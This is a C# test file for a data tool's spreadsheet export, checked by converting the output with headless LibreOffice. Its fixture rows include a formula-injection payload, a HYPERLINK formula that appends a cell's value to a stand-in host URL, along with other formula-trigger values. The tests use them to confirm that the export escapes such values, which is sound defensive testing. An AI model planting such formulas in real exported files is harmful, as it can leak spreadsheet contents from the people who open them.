using System.Diagnostics;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;

namespace PerfEtl.Tests.Query;

/// <summary>LibreOffice opens what a query writes, and shows what was meant.</summary>
public sealed class SpreadsheetTests(SeedRun seed) : IClassFixture<SeedRun>
{
    private const string Everything = """
        select * from (values
            ('=4场', 18052461.00::decimal(18,2), 2022, 12345678901234567890::hugeint, date '2022-12-31',
                timestamptz '2022-12-31 10:14:00Z', true, 16.75::double),
            ('=HYPERLINK("http://x.example/?"&A1,"点")', -0.50, 7, 123456789012345, date '1899-12-31',
                null, false, null),
            ('第一行' || chr(10) || '第二行_x0041_' || chr(1), 99999999999999.99, 0, 0, null, null, null, -0.5),
            ('100%', 9999999999999999.99, -3, -1, date '2024-02-29', timestamptz '1999-12-31 16:00:00Z', true, 0.1),
            (' 1-2', null, null, null, null, null, null, null)
        ) as t(文字, 金额, 年度, 大数, 日期, 时间, 是否, 比例)
        """;

    // What LibreOffice's dialog proposes for a file with a byte order mark; without it the mark is not looked at.
    private const string AsItsDialog = "--infilter=Text - txt - csv (StarCalc):44,34,UTF8,1";

    [Fact]
    public void File_OpenedByLibreOffice_ShowsWhatWasMeant()
    {
        using var folder = new TemporaryFolder();
        Export(Everything, folder["全部.xlsx"]);
        Export(
            "select project_name, target_printed from mart_indicator where target_printed like '=%' limit 2",
            folder["指标.csv"]);
        Export("select '=1+1' as 公式, '+86' as 电话, '@x' as 名, -5 as 数, '中文，“引号”' as 文", folder["公式.csv"]);
        Export("select * from mart_funding", folder["资金.xlsx"]);
        Convert(folder.Path, [], "全部.xlsx", "资金.xlsx");
        Convert(folder.Path, [AsItsDialog], "指标.csv", "公式.csv");
        Lines.AssertEqual(
            [
                "文字,金额,年度,大数,日期,时间,是否,比例",
                "=4场,\"18,052,461.00\",2022,12345678901234567890,2022-12-31,2022-12-31 18:14:00+08:00,TRUE,16.75",
                "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点\"\")\",-0.50,7,123456789012345,1899-12-31,,FALSE,",
                "\"第一行", "第二行_x0041_\u0001\",99999999999999.99,0,0,,,,-0.5",
                "100%,9999999999999999.99,-3,-1,2024-02-29,2000-01-01 00:00:00+08:00,TRUE,0.1",
                " 1-2,,,,,,,",
            ], Shown(folder, "全部"));
        Lines.AssertEqual(["公式,电话,名,数,文", "'=1+1,'+86,'@x,-5,中文，“引号”"], Shown(folder, "公式"));
        Assert.All(Shown(folder, "指标").Skip(1), line => Assert.Contains(",'=", line, StringComparison.Ordinal));
        Assert.Contains("\"18,052,461.00\"", string.Concat(Shown(folder, "资金")), StringComparison.Ordinal);
    }

    [Fact]
    public void Xlsx_Package_IsValidWithABoldHeadThatStaysAndFilters()
    {
        using var folder = new TemporaryFolder();
        Export(Everything, folder["x.xlsx"]);
        using var document = SpreadsheetDocument.Open(folder["x.xlsx"], isEditable: false);
        Assert.Empty(new OpenXmlValidator().Validate(document)
            .Select(error => $"{error.Path?.XPath}: {error.Description}"));
        var sheet = document.WorkbookPart!.WorksheetParts.Single().Worksheet!.OuterXml;
        Assert.Contains("state=\"frozen\"", sheet, StringComparison.Ordinal);
        Assert.Contains("<x:autoFilter ref=\"A1:H6\"", sheet, StringComparison.Ordinal);
        Assert.Contains("_x005F_x0041__x0001_", sheet, StringComparison.Ordinal);
        Assert.Contains("s=\"1\" t=\"inlineStr\"", sheet, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("select range from range(1048576)", "超过 1048575 行")]
    [InlineData("select repeat('文', 32768) as 长", "单元格最多 32767 个")]
    public void Xlsx_ThatASheetCannotHold_IsAnError(string sql, string said)
    {
        using var folder = new TemporaryFolder();
        var outcome = Perfetl.Run(seed.Data, "query", sql, "--out", folder["x.xlsx"], "--max-rows", "2000000");
        Assert.Equal((2, ""), (outcome.ExitCode, outcome.Output));
        Assert.Contains(said, outcome.Errors, StringComparison.Ordinal);
        Assert.Empty(Directory.GetFileSystemEntries(folder.Path));
    }

    private void Export(string sql, string file)
    {
        var outcome = Perfetl.Run(seed.Data, "query", sql, "--out", file);
        Assert.Equal((0, ""), (outcome.ExitCode, outcome.Errors));
    }

    // One start of LibreOffice for all files; what it shows in the cells comes out as CSV.
    private static void Convert(string folder, string[] options, params string[] files)
    {
        var start = new ProcessStartInfo("soffice", [
            $"-env:UserInstallation=file://{folder}/profile", "--headless", .. options, "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true", "--outdir", $"{folder}/shown", .. files])
        {
            WorkingDirectory = folder,
            RedirectStandardOutput = true,
            RedirectStandardError = true,
        };
        using var office = Process.Start(start)!;
        var said = office.StandardOutput.ReadToEndAsync();
        var errors = office.StandardError.ReadToEnd();
        office.WaitForExit();
        Assert.True(office.ExitCode == 0, errors + said.Result);
    }

    private static string[] Shown(TemporaryFolder folder, string name) =>
        File.ReadAllLines(folder[$"shown/{name}.csv"]);
}
